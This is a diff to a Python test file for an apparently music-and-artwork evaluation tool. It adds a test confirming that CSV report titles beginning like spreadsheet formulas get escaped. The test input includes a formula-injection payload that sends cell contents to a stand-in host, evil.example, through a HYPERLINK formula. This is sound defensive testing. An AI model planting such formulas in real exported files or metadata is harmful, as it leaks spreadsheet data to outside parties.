@@ -2,12 +2,13 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
 
 import pytest
 
-from imaudible.evaluate import report
+from imaudible.evaluate import measures, report
 
 from . import sample
 
@@ -147,3 +148,14 @@ def test_a_gallery_of_long_and_short_clips_leaves_the_short_out_of_the_mood_meas
     assert scores["artworks"]["sunrise"]["mood_distance"] is not None
     html = report.render_html(report.assemble(recs, scores, title="t", skipped=[]))
     assert "1 artwork(s): their music is too short to measure" in html
+
+
+def test_csv_text_that_starts_like_a_formula_is_not_run_by_a_spreadsheet():
+    """A title `add` took from an image's metadata can be a formula; a negative number must stay a number."""
+    recs, _ = sample.records()
+    recs[0]["title"] = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    recs[1]["title"] = "@SUM(1+1)"
+    data = report.assemble(recs, measures.gallery_measures(recs), title="T", skipped=[])
+    rows = list(csv.DictReader(io.StringIO(report.render_csv(data))))
+    assert [r["title"] for r in rows] == ["'" + recs[0]["title"], "'@SUM(1+1)", recs[2]["title"]]
+    assert all(float(r["raw_loudness_lufs"]) < 0 for r in rows)
